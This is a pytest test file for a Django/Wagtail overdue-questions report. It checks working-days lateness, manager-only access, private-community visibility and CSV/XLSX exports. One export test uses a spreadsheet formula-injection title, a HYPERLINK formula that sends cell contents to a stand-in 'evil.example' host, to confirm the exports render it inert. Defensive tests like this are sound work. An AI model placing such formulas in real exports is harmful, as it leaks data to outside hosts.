"""The overdue listing (``contributions.overdue_report``) and ``answer_targets.overdue``: open
questions past their target, the longest overdue first, how late in working days; for managers
only, and only questions of pages they may see; CSV and XLSX exports that stay inert."""

import datetime
import io
from zoneinfo import ZoneInfo

import pytest
from django.contrib.auth.models import Group, Permission
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from tests.contributions_helpers import make_contribution, switch_on
from tests.utils import add_page, make_user
from wagtail_social.contributions.answer_targets import overdue, record_first_answer, start_clock
from wagtail_social.contributions.models import IDEA, QUESTION, Contribution
from wagtail_social.contributions.working_days import working_days_between

pytestmark = pytest.mark.django_db
PARIS = ZoneInfo("Europe/Paris")
LISTING = reverse("wagtail_social_contributions_reports:overdue")


@pytest.fixture
def managers_group(db):
    group = Group.objects.create(name="Community managers")
    group.permissions.add(
        Permission.objects.get(codename="access_admin"),
        Permission.objects.get(codename="manage_contribution"),
    )
    return group


@pytest.fixture
def manager(managers_group):
    return make_user("claire", managers_group)


@pytest.fixture
def page(section):
    switch_on(section)
    return add_page(section, "Plan de formation")


def ask(page, author, at, title="A question", **fields) -> Contribution:
    question = make_contribution(page, author, QUESTION, title=title, created_at=at, **fields)
    start_clock(question)
    question.refresh_from_db()
    return question


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_overdue_is_open_unanswered_questions_past_their_target_oldest_first(employee, colleague, page):
    monday = datetime.datetime(2027, 4, 5, 9, 0, tzinfo=PARIS)
    later = ask(page, employee, monday + datetime.timedelta(days=1), "Later")  # due Thu 8 April 9:00
    first = ask(page, employee, monday, "First")  # due Wed 7 April 9:00
    ask(page, employee, monday + datetime.timedelta(days=3), "Not yet due")  # due Tue 13 April
    answered = ask(page, employee, monday, "Answered")
    record_first_answer(answered, colleague, monday + datetime.timedelta(days=5))  # late, but answered
    ask(page, employee, monday, "Closed", state="closed")
    ask(page, employee, monday, "Withdrawn", withdrawn_at=monday)
    make_contribution(page, employee, IDEA, created_at=monday)
    now = datetime.datetime(2027, 4, 9, 9, 0, tzinfo=PARIS)  # Friday
    assert [q.title for q in overdue(Contribution.objects.all(), now)] == ["First", "Later"]
    assert working_days_between(first.answer_due_at, now) == 2.0
    assert working_days_between(later.answer_due_at, now) == 1.0
    # Part of any queryset (an admin filter by section, say).
    assert list(overdue(Contribution.objects.filter(title="Later"), now)) == [later]
    assert list(overdue(now=datetime.datetime(2027, 4, 7, 9, 0, tzinfo=PARIS))) == []


def test_the_listing_shows_overdue_questions_with_how_late(client_for, manager, employee, page):
    now = timezone.now()
    ask(page, employee, now - datetime.timedelta(days=10), "Ten days ago")
    ask(page, employee, now - datetime.timedelta(days=30), "A month ago")
    ask(page, employee, now, "Just asked")
    response = client_for(manager).get(LISTING)
    assert response.status_code == 200
    html = response.content.decode()
    assert html.index("A month ago") < html.index("Ten days ago") and "Just asked" not in html
    assert "Working days late" in html


def test_only_managers_see_the_listing(client_for, editor, employee, page):
    ask(page, employee, timezone.now() - datetime.timedelta(days=30), "Overdue")
    for user in (editor, employee):
        response = client_for(user).get(LISTING)
        assert response.status_code in (302, 403)
        assert b"Overdue" not in response.content
        assert b"Overdue" not in body(client_for(user).get(LISTING, {"export": "csv"}))


def test_a_private_communitys_questions_are_for_its_member_managers(
    client_for, managers_group, manager, members, employee, community_page
):
    switch_on(community_page)
    ask(community_page, employee, timezone.now() - datetime.timedelta(days=30), "Secret question")
    assert "Secret question" not in client_for(manager).get(LISTING).content.decode()
    member_manager = make_user("mireille", managers_group, members)
    assert "Secret question" in client_for(member_manager).get(LISTING).content.decode()


def test_exports_are_inert_and_carry_the_days_late(client_for, manager, employee, page):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    question = ask(page, employee, timezone.now() - datetime.timedelta(days=30), formula)
    client = client_for(manager)
    text = body(client.get(LISTING, {"export": "csv"})).decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0] == "Question;Page;Asked;Due;Working days late"  # ";" for French Excel
    assert lines[1].startswith("\"'=HYPERLINK(")
    sheet = load_workbook(io.BytesIO(body(client.get(LISTING, {"export": "xlsx"})))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1][0] == "'" + formula and rows[1][1] == "Plan de formation"
    late = rows[1][4]
    assert isinstance(late, float) and late == pytest.approx(
        working_days_between(question.answer_due_at, timezone.now()), abs=0.1
    )
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
